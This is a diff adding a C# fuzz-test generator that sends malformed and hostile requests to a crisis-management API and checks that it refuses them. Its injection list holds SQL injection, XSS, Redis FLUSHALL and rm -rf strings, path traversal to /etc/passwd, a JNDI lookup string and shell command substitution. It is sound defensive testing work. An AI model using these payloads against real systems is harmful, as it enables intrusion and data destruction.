@@ -1,0 +1,348 @@
+using System.Text;
+using System.Text.Json;
+using System.Text.Json.Nodes;
+
+namespace Lagesbild.Access.Tests;
+
+/// <summary>One generated request, over HTTP or the hub, and what it is expected to do.</summary>
+public interface IFuzzCase
+{
+    string Kind { get; }
+    Expect Expect { get; }
+}
+
+/// <summary>One generated HTTP request and what it is expected to do.</summary>
+public sealed record HostileRequest(string Kind, string Method, string Path, byte[]? Body, string? ContentType, Expect Expect,
+    (string Field, string Value)? Echo = null, (string Name, string Value)? Header = null) : IFuzzCase
+{
+    public override string ToString() =>
+        $"{Kind}: {Method} {Path}{(Body is null ? "" : $" [{Body.Length} B {ContentType}] {Encoding.UTF8.GetString(Body.AsSpan(0, Math.Min(Body.Length, 160)))}")}";
+}
+
+public enum Expect
+{
+    /// <summary>A change that must be refused (4xx) and must leave the picture as it was.</summary>
+    Refused,
+    /// <summary>A change with a valid body carrying odd text; it may be accepted, and then the text is stored exactly.</summary>
+    MaybeAccepted,
+    /// <summary>A read: any status but 5xx; it changes nothing.</summary>
+    Read,
+}
+
+/// <summary>
+/// A seeded generator of malformed and hostile requests across every endpoint: broken JSON,
+/// wrong types, huge strings, unknown fields, injection strings in ids and text, deep
+/// nesting, unicode oddities, wrong content types and methods, garbage queries. The same
+/// seed gives the same requests.
+/// </summary>
+public sealed class HostileRequests(int seed)
+{
+    private readonly Random _random = new(seed);
+
+    public static readonly string[] Injections =
+    [
+        "' OR '1'='1", "'; DROP TABLE safety_points; --", "\" OR \"\"=\"", "1; SELECT * FROM users", "admin'--",
+        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "\"><svg/onload=alert(1)>",
+        "redis.call('FLUSHALL')", "'); redis.call('DEL', KEYS[1]); --", "]]; os.execute('rm -rf /'); --[[", "EVAL \"return 1\" 0",
+        "FLUSHALL\r\nSET x 1", "*1\r\n$8\r\nFLUSHALL\r\n",
+        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/dev/null",
+        "${jndi:ldap://x.example/a}", "{{7*7}}", "#{7*7}", "$(id)", "`id`", "| cat /etc/passwd",
+        "live", "ex-", "stockholm\n", "farsta\n", "farsta-storforsplan\n", "central-krisledning\r\n",
+        "null", "undefined", "NaN", "-1", "0", "1e309", "true", "[]", "{}", "__proto__", "constructor",
+        "%00", "\u0000", "\t", " ", "", "a\u0000b", "\u202Egnp.exe", "\uFEFFfarsta", "ｆａｒｓｔａ", "fаrsta", "Farsta", "FARSTA-STORFORSPLAN",
+        "😀🔥💥", "e\u0301\u0301\u0301\u0301", "\u200B\u200C\u200D", "𝕱𝖆𝖗𝖘𝖙𝖆", "ℌ𝔢𝔩𝔩𝔬", "\u0085\u2028\u2029",
+    ];
+
+    private static readonly string[] OddText =
+    [
+        "' OR '1'='1", "<script>alert(1)</script>", "redis.call('FLUSHALL')", "../../../../etc/passwd", "${jndi:ldap://x.example/a}",
+        "\u202Egnp.exe", "😀🔥💥 Skyddsrum", "e\u0301\u0301\u0301 punkt", "Zero\u200Bwidth", "𝕱𝖆𝖗𝖘𝖙𝖆 bibliotek", "Åäö ÅÄÖ ß ø", "\"quoted\" \\backslash\\",
+        "{\"internal\":true}", "\",\"internal\":true,\"x\":\"", "line\nbreak", "tab\there", "  padded  ", "%00%0d%0a", "NULL", "☃",
+    ];
+
+    private static readonly string[] BadText = ["a\u0000b", "bell\u0007", "esc\u001B[31m", "del\u007F", "\u0085next"];
+
+    private static readonly string[] BadPictures = ["LIVE", "Live", "ex-", "ex-A", "ex_x", "../live", "live/../live", "%2e%2e", "live%00", "ex-" + new string('a', 60), "ex-ghost%0A", "' OR 1=1", "<b>", "😀"];
+
+    private static readonly string[] Methods = ["GET", "DELETE", "HEAD", "OPTIONS", "POST", "PUT", "PATCH"];
+
+    private static readonly string[] ContentTypes = ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json", "application/jsonx", "image/png"];
+
+    private sealed record Route(string Type, string Method, string Path, Func<Random, JsonObject> Body, string[] Text, string? EchoKind = null);
+
+    private static readonly string[] Points = ["farsta-storforsplan", "farsta-emma-hokarangen", "sodermalm-medborgarplatsen", "sodermalm-tellus"];
+    private static readonly string[] Districts = ["farsta", "sodermalm"];
+    private static readonly string[] Sectors = ["energiforsorjning", "transporter"];
+    private static readonly string[] Bodies = ["lokal-farsta", "lokal-sodermalm", "central-krisledning"];
+
+    private static readonly Route[] Routes =
+    [
+        new("RegisterSafetyPoint", "POST", "safety-points", r => new JsonObject
+        {
+            ["id"] = "fuzz-point", ["district"] = "farsta", ["name"] = "Fuzzpunkt", ["address"] = "Testgatan 1",
+            ["position"] = new JsonObject { ["lon"] = 18.092, ["lat"] = 59.2433 }, ["tier"] = 2, ["capacity"] = 40,
+            ["capabilities"] = new JsonArray("Information"), ["backupPower"] = false, ["example"] = true,
+        }, ["name", "address", "district", "reason"]),
+        new("UpdateSafetyPointDetails", "PATCH", "safety-points/{point}", r => new JsonObject { ["name"] = "Fuzz " + r.Next() }, ["name", "address"], "SafetyPoint"),
+        new("ChangeSafetyPointStatus", "POST", "safety-points/{point}/status", r => new JsonObject { ["status"] = "Activating", ["limitations"] = "Inga" }, ["limitations", "reason"]),
+        new("SetSafetyPointCapabilities", "PUT", "safety-points/{point}/capabilities", r => new JsonObject
+        {
+            ["capabilities"] = new JsonObject { ["Information"] = "Available", ["Heat"] = "Limited" },
+        }, ["reason"]),
+        new("ReportSafetyPointResources", "PUT", "safety-points/{point}/resources", r => new JsonObject
+        {
+            ["backupPower"] = new JsonObject { ["available"] = true, ["fuelHours"] = 12 }, ["waterLitres"] = r.Next(0, 1000), ["staff"] = 3, ["frgVolunteers"] = 1, ["radios"] = 1,
+        }, ["reason"]),
+        new("ReportSafetyPointVisitors", "PUT", "safety-points/{point}/visitors", r => new JsonObject { ["visitors"] = 0 }, ["reason"]),
+        new("SetDistrictSituation", "PUT", "districts/{district}/situation", r => new JsonObject { ["situation"] = "Strained" }, ["reason"]),
+        new("ChangeDistrictLocalLevel", "PUT", "districts/{district}/local-level", r => new JsonObject { ["level"] = "LocalIncident", ["reason"] = "Fuzz" }, ["reason"]),
+        new("SetDistrictDutyContact", "PUT", "districts/{district}/duty-contact", r => new JsonObject
+        {
+            ["name"] = "Jour " + r.Next(), ["phone"] = "08-508 000 00", ["function"] = "TiB",
+        }, ["name", "function"]),
+        new("ReportSectorStatus", "PUT", "sectors/{sector}/status", r => new JsonObject
+        {
+            ["status"] = "Disturbed", ["affectedDistricts"] = new JsonArray("farsta"), ["needs"] = "Diesel", ["prognosis"] = "Ett dygn",
+        }, ["needs", "prognosis", "reason"], "Sector"),
+        new("SetSectorLead", "PUT", "sectors/{sector}/lead", r => new JsonObject { ["leadBody"] = "Förvaltning " + r.Next() }, ["leadBody"], "Sector"),
+        new("ChangeCrisisBodyActivation", "PUT", "crisis-bodies/{body}/activation", r => new JsonObject { ["activation"] = "Standby" }, ["reason"]),
+        new("SetCrisisBodyOnDuty", "PUT", "crisis-bodies/{body}/on-duty", r => new JsonObject
+        {
+            ["people"] = new JsonArray(new JsonObject { ["name"] = "Person", ["role"] = "Stabschef", ["phone"] = "08-1" }),
+        }, ["reason"]),
+        new("ScheduleCrisisBodyMeeting", "PUT", "crisis-bodies/{body}/next-meeting", r => new JsonObject
+        {
+            ["at"] = DateTimeOffset.UtcNow.AddDays(1).ToString("O"), ["place"] = "Stadshuset",
+        }, ["place"]),
+        new("ChangeCityLevel", "PUT", "city/level", r => new JsonObject { ["level"] = "SocietalDisturbance", ["decidedBy"] = "Fuzz", ["reason"] = "Fuzz" }, ["decidedBy", "reason"]),
+    ];
+
+    /// <summary>Route names a hub command may carry, for the hub fuzz.</summary>
+    public static IEnumerable<string> CommandTypes => Routes.Select(r => r.Type);
+
+    public HostileRequest Next()
+    {
+        var roll = _random.Next(100);
+        return roll switch
+        {
+            < 10 => LogQuery(),
+            < 16 => OtherRead(),
+            < 19 => SignInOrExercise(),
+            < 27 => MaybeAccepted(),
+            _ => HostileCommand(),
+        };
+    }
+
+    // ---- commands ----
+
+    private HostileRequest HostileCommand()
+    {
+        var route = Pick(Routes);
+        var body = route.Body(_random);
+        var path = Fill(route.Path);
+        var picture = "live";
+        switch (_random.Next(13))
+        {
+            case 0:
+                return Command("malformed JSON", route, picture, path, Malformed(body.ToJsonString()));
+            case 1:
+                WrongType(body);
+                return Command("wrong type", route, picture, path, Json(body));
+            case 2:
+                body[Pick(route.Text)] = new string(Pick(['x', 'å', '<', '\'']), _random.Next(70_000, 100_000));
+                return Command("huge string (>64 KB)", route, picture, path, Json(body));
+            case 3:
+                body[Pick(route.Text)] = new string('y', _random.Next(4_001, 60_000));
+                return Command("long string", route, picture, path, Json(body));
+            case 4:
+                body[Pick(["admin", "__proto__", "constructor", "$type", "type", "role", "actor", "seq", "state", "by", "id2"])] =
+                    Pick<JsonNode>([true, "central", new JsonObject { ["admin"] = true }, 1, new JsonArray(1, 2)]);
+                return Command("unknown field", route, picture, path, Json(body));
+            case 5:
+                return IdInjection(route, body);
+            case 6:
+                picture = Uri.EscapeDataString(Pick(BadPictures));
+                return Command("garbage picture", route, picture, path, Json(body));
+            case 7:
+                body[Pick(["nested", Pick(route.Text), body.First().Key])] = "DEEP";
+                return Command("deep JSON", route, picture, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace("\"DEEP\"", Deep(_random.Next(100, 400)))));
+            case 8:
+                body[Pick(route.Text)] = Pick(BadText);
+                return Command("control characters", route, picture, path, Json(body));
+            case 9:
+                return Command("lone surrogate / invalid UTF-8", route, picture, path, BrokenText(body, route));
+            case 10:
+                return Command("wrong content type", route, picture, path, Json(body)) with { ContentType = Pick<string?>([.. ContentTypes, null]) };
+            case 11:
+                var method = Pick(Methods.Where(m => m != route.Method).ToArray());
+                return new HostileRequest("wrong method", method, $"api/pictures/live/{path}", method is "GET" or "HEAD" ? null : Json(body), "application/json", Expect.Refused);
+            default:
+                // A header no server should take (40 KB), on a body that is broken anyway.
+                return Command("oversized header", route, picture, path, Malformed(body.ToJsonString())) with
+                {
+                    Header = ("X-Fuzz", new string('h', 40_000)),
+                };
+        }
+    }
+
+    /// <summary>A valid command carrying odd text in one field: it may well be accepted, and then the text must come back exactly.</summary>
+    private HostileRequest MaybeAccepted()
+    {
+        var route = Pick(Routes.Where(r => r.Type is not ("RegisterSafetyPoint" or "ChangeSafetyPointStatus" or "ChangeCityLevel")).ToArray());
+        var body = route.Body(_random);
+        var field = Pick(route.Text);
+        var text = Pick(OddText) + " " + _random.Next(1000);
+        body[field] = text;
+        var echo = route.EchoKind is not null && field != "reason" ? (field, text.Trim()) : ((string, string)?)null;
+        return new HostileRequest($"odd text in {field}", route.Method, $"api/pictures/live/{Fill(route.Path)}", Json(body), "application/json", Expect.MaybeAccepted, echo);
+    }
+
+    private HostileRequest IdInjection(Route route, JsonObject body)
+    {
+        var id = Pick(Injections) + (_random.Next(3) == 0 ? Pick(Injections) : "");
+        if (route.Type == "RegisterSafetyPoint")
+        {
+            body["id"] = id;
+            // Some of the strings ("null", "constructor", "0") are perfectly good ids: those may be registered.
+            return Command("injection in id (body)", route, "live", route.Path, Json(body)) with { Expect = IsId(id) ? Expect.MaybeAccepted : Expect.Refused };
+        }
+        if (route.Type == "ChangeCityLevel")
+            return Command("injection in picture", route, Escape(id), route.Path, Json(body)) with { Expect = id == "live" ? Expect.MaybeAccepted : Expect.Refused };
+        var path = route.Path.Replace("{point}", Escape(id)).Replace("{district}", Escape(id)).Replace("{sector}", Escape(id)).Replace("{body}", Escape(id));
+        // A good id ("undefined") may name a point this very fuzz registered a moment ago.
+        return Command("injection in id (route)", route, "live", path, Json(body)) with { Expect = IsId(id) ? Expect.MaybeAccepted : Expect.Refused };
+    }
+
+    /// <summary>What an id is (protocol: 1–60 lower-case letters, digits and dashes), anchored at the very end of the string.</summary>
+    public static bool IsId(string? id) => id is not null && System.Text.RegularExpressions.Regex.IsMatch(id, @"^[a-z0-9][a-z0-9-]{0,59}\z");
+
+    /// <summary>An empty id would make another route; every other string goes in as one path segment.</summary>
+    private static string Escape(string id) => id.Length == 0 ? "%20" : Uri.EscapeDataString(id);
+
+    private static HostileRequest Command(string kind, Route route, string picture, string path, byte[] body) =>
+        new(kind, route.Method, $"api/pictures/{picture}/{path}", body, "application/json", Expect.Refused);
+
+    private string Fill(string path) => path
+        .Replace("{point}", Pick(Points)).Replace("{district}", Pick(Districts))
+        .Replace("{sector}", Pick(Sectors)).Replace("{body}", Pick(Bodies));
+
+    private void WrongType(JsonObject body)
+    {
+        var name = Pick(body.Select(p => p.Key).ToArray());
+        body[name] = body[name]?.GetValueKind() switch
+        {
+            JsonValueKind.String => Pick<JsonNode>([42, true, new JsonArray("x"), new JsonObject { ["x"] = 1 }]),
+            JsonValueKind.Number => Pick<JsonNode>(["12", true, new JsonArray(1), new JsonObject(), 1.5, 1e300]),
+            JsonValueKind.True or JsonValueKind.False => Pick<JsonNode>(["true", 1, new JsonArray()]),
+            JsonValueKind.Array => Pick<JsonNode>(["farsta", 1, new JsonObject { ["0"] = "farsta" }]),
+            _ => Pick<JsonNode>(["x", 1, new JsonArray(new JsonObject())]),
+        };
+        // An optional number given as 1.5 or 1e300 is still wrong; a string given as a number too.
+    }
+
+    private byte[] Malformed(string json) => _random.Next(11) switch
+    {
+        0 => Encoding.UTF8.GetBytes(json[..Math.Max(1, _random.Next(json.Length - 1))]),
+        1 => Encoding.UTF8.GetBytes(json + Pick(["x", "}", ",{}", "{\"a\":1}", " null"])),
+        2 => Encoding.UTF8.GetBytes(Pick(["x", "[", "'", "\"", "-"]) + json),
+        3 => Encoding.UTF8.GetBytes(json.Replace("\":", "\"=")),
+        4 => Encoding.UTF8.GetBytes(json.Replace('"', '\'')),
+        5 => Encoding.UTF8.GetBytes(json[..^1] + ",}"),
+        6 => Encoding.UTF8.GetBytes("/* kommentar */" + json),
+        7 => Encoding.UTF8.GetBytes("{\"visitors\":NaN,\"x\":Infinity}"),
+        8 => [0xFF, 0xFE, .. Encoding.UTF8.GetBytes(json)],
+        9 => Enumerable.Range(0, _random.Next(1, 200)).Select(_ => (byte)_random.Next(256)).ToArray(),
+        _ => Encoding.Unicode.GetBytes(json),
+    };
+
+    private byte[] BrokenText(JsonObject body, Route route)
+    {
+        var field = Pick(route.Text);
+        body[field] = "MARK";
+        var json = body.ToJsonString();
+        return _random.Next(2) == 0
+            ? Encoding.UTF8.GetBytes(json.Replace("MARK", Pick(["\\ud800", "\\udfff", "a\\ud800b", "\\ud83d"])))
+            : [.. Encoding.UTF8.GetBytes(json[..json.IndexOf("MARK", StringComparison.Ordinal)]), 0xC3, 0x28, 0xFF, .. Encoding.UTF8.GetBytes(json[(json.IndexOf("MARK", StringComparison.Ordinal) + 4)..])];
+    }
+
+    /// <summary>Nesting far past any sane depth, as text (a JsonNode refuses to write more than 64 levels).</summary>
+    public string Deep(int depth)
+    {
+        var open = new StringBuilder();
+        var close = new StringBuilder();
+        for (var i = 0; i < depth; i++)
+        {
+            var array = _random.Next(2) == 0;
+            open.Append(array ? "[" : "{\"a\":");
+            close.Insert(0, array ? "]" : "}");
+        }
+        return $"{open}\"bottom\"{close}";
+    }
+
+    // ---- reads and the rest ----
+
+    private HostileRequest LogQuery()
+    {
+        var parameters = new List<string>();
+        for (var i = _random.Next(1, 4); i > 0; i--)
+        {
+            var name = Pick(["entity", "district", "from", "to", "afterSeq", "limit", "unknown", "entity", "limit"]);
+            var value = name switch
+            {
+                "entity" => Pick(["SafetyPoint/farsta-storforsplan", "SafetyPoint/", "/farsta", "Nope/x", "1/farsta", "SafetyPoint/" + Pick(Injections), Pick(Injections)]),
+                "district" => Pick(["farsta", "FARSTA", Pick(Injections)]),
+                "from" or "to" => Pick(["2026-01-01T00:00:00Z", "yesterday", "0001-01-01", "9999-12-31T23:59:59Z", "2026-13-45", "1e10", Pick(Injections)]),
+                "afterSeq" => Pick(["0", "-1", "9223372036854775807", "9223372036854775808", "1.5", "abc", Pick(Injections)]),
+                "limit" => Pick(["1", "0", "-5", "1000", "1001", "2147483648", "ten", Pick(Injections)]),
+                _ => Pick(Injections),
+            };
+            parameters.Add($"{name}={Uri.EscapeDataString(value)}");
+        }
+        var picture = _random.Next(5) == 0 ? Uri.EscapeDataString(Pick(BadPictures)) : "live";
+        return new HostileRequest("garbage log query", "GET", $"api/pictures/{picture}/log?{string.Join('&', parameters)}", null, null, Expect.Read);
+    }
+
+    private HostileRequest OtherRead()
+    {
+        var path = _random.Next(11) switch
+        {
+            0 => $"api/pictures/{Uri.EscapeDataString(Pick(BadPictures))}/snapshot",
+            1 => $"api/pictures/{Uri.EscapeDataString(Pick(BadPictures))}/digest",
+            2 => "api/pictures?" + Uri.EscapeDataString(Pick(Injections)),
+            3 => "api/public/safety-points?district=" + Uri.EscapeDataString(Pick(Injections)),
+            4 => "api/config",
+            5 => "api/me",
+            6 => "maps/" + Uri.EscapeDataString(Pick(Injections)),
+            7 => "maps/..%2f..%2fappsettings.json",
+            8 => "api/live/stats",
+            9 => Uri.EscapeDataString(Pick(Injections)),
+            _ => "api/pictures/live/snapshot",
+        };
+        return new HostileRequest("other read", "GET", path, null, null, Expect.Read);
+    }
+
+    private HostileRequest SignInOrExercise()
+    {
+        if (_random.Next(2) == 0)
+        {
+            var body = Pick([
+                "{\"user\":5}", "{\"user\":null}", "{\"user\":[\"anna\"]}", "{\"user\":\"anna\",\"role\":\"central\"}", "{\"user\":",
+                "{\"user\":\"" + Pick(Injections).Replace("\\", "\\\\").Replace("\"", "\\\"") + "\"}", "null", "[]", "", "{\"user\":\"" + new string('a', 70_000) + "\"}",
+            ]);
+            // Signing in is a read as far as the picture goes, but garbage must still get a 4xx.
+            return new HostileRequest("garbage sign-in", "POST", "api/dev/sign-in", Encoding.UTF8.GetBytes(body), "application/json", Expect.Refused);
+        }
+        var id = Pick(["live", "ex-", "EX-A", "ex-" + new string('a', 41), "ex_x", Pick(Injections)]);
+        var json = _random.Next(3) switch
+        {
+            0 => new JsonObject { ["id"] = id, ["name"] = "Fuzz" }.ToJsonString(),
+            1 => "{\"id\":" + Pick(["1", "true", "[]", "{}"]) + "}",
+            _ => "{\"id\":\"ex-fuzz\"," + Pick(["\"admin\":true}", "}", "\"name\":5}"]),
+        };
+        return new HostileRequest("garbage exercise", "POST", "api/pictures", Encoding.UTF8.GetBytes(json), "application/json", Expect.Refused);
+    }
+
+    private static byte[] Json(JsonObject body) => Encoding.UTF8.GetBytes(body.ToJsonString(new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }));
+
+    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];
+}
